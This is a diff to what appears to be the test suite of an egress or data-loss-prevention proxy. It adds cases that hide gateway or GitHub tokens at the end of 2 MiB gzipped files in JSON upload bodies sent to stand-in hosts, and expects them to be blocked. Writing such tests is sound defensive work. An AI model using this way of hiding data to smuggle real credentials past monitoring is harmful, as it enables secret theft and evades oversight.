@@ -469,12 +469,14 @@ def _b64(text: str, codec: str = "utf-8") -> str:
     return base64.b64encode(text.encode(codec)).decode()
 
 
-def _json_file(text: str, how: str, filler: int = 0) -> str:
+def _json_file(text: str, how: str, filler: int = 0, inside: int = 0) -> str:
     """A JSON body sending a file in a string, as GitHub's contents API takes one
     (base64), the file holding `text`: gzipped (`gz`), or in base64 lines of 76 (`lines`,
     `text` placed so a line break cuts it); `filler`: a string of random words before it
-    (past the hold limit: streamed). Base64, for the spec."""
-    data = ("#" * 33 + "\n" + text).encode()
+    (past the hold limit: streamed); `inside`: random words in the file before `text`
+    (2 MiB: a run of 1.6 MB, past what a stream read kept whole before the twenty-first
+    session). Base64, for the spec."""
+    data = (_filler(inside) + "#" * 33 + "\n" + text).encode()
     if how == "gz":
         content = base64.b64encode(gzip.compress(data, mtime=0)).decode()
     else:
@@ -824,6 +826,12 @@ CASES = [
           "headers": [["Content-Type", "application/json"]]},
          ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
          check=_no_upstream),
+    Case("F8 token at the end of a 2 MiB gzipped file in a JSON string, streamed",
+         {"host": "unbound.test", "method": "PUT", "target": "/repos/o/r/contents/log.gz",
+          "chunked": True, "body": "{JSONBIGGZ:GATEWAY_TOKEN={TOKEN}\n}",
+          "headers": [["Content-Type", "application/json"]]},
+         ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
+         streamed=True, check=_no_upstream_body),
     Case("F8 token in a .env of a zip an upload form sends",
          {"host": "unbound.test", "method": "POST", "target": "/bucket",
           "body": "{FORMZIP:GATEWAY_TOKEN={TOKEN}\n}",
@@ -1347,6 +1355,16 @@ DLP = [
          {**_dlp_post("/dlp/s", "{JSONLINES2M:GITHUB_TOKEN={GH}\n}", _JSON),
           "chunked": True},
          ("response", 403, "secret_detected"), _DLP, streamed=True, check=_no_upstream_body),
+    # A file of 2 MiB in a JSON string (a run of 1.6 MB): read as it streams, not
+    # refused as unreadable (past 1 MiB before the twenty-first session).
+    Case("DLP: a credential at the end of a 2 MiB gzipped file in a JSON string, streamed",
+         {**_dlp_post("/dlp/s", "{JSONBIGGZ:GITHUB_TOKEN={GH}\n}", _JSON), "chunked": True},
+         ("response", 403, "secret_detected"), _DLP, streamed=True, check=_no_upstream_body),
+    Case("DLP: a 2 MiB gzipped file in a JSON string, streamed, reaches the upstream whole",
+         {**_dlp_post("/dlp/s", "{JSONBIGGZ:LOG_LEVEL=debug\n}", _JSON), "chunked": True},
+         ("response", 200, None), {"decision": "allow", "error": None},
+         check=lambda result, seen: _upstream_exactly("POST", "/dlp/s", base64.b64decode(
+             _json_file("LOG_LEVEL=debug\n", "gz", 0, 2 << 20)))(result, seen)),
     Case("DLP: a credential in a compressed gRPC-Web message in its text form",
          _dlp_post("/dlp/g", "{GRPCTEXT:deploy with {GH}}",
                    ["Content-Type", "application/grpc-web-text+proto"], ["grpc-encoding", "gzip"]),
@@ -1465,6 +1483,8 @@ def _fill(value: Any, subs: dict[str, str]) -> Any:
         if value.startswith(("{JSONGZ:", "{JSONLINES:")) and value.endswith("}"):  # (a
             how = "gz" if value.startswith("{JSONGZ:") else "lines"  # file in JSON)
             return _json_file(_fill(value[value.index(":") + 1:-1], subs), how)
+        if value.startswith("{JSONBIGGZ:") and value.endswith("}"):  # (a 2 MiB file)
+            return _json_file(_fill(value[11:-1], subs), "gz", 0, 2 << 20)
         if value.startswith(("{JSONGZ2M:", "{JSONLINES2M:")) and value.endswith("}"):
             how = "gz" if value.startswith("{JSONGZ2M:") else "lines"  # (streamed)
             return _json_file(_fill(value[value.index(":") + 1:-1], subs), how, 2 << 20)
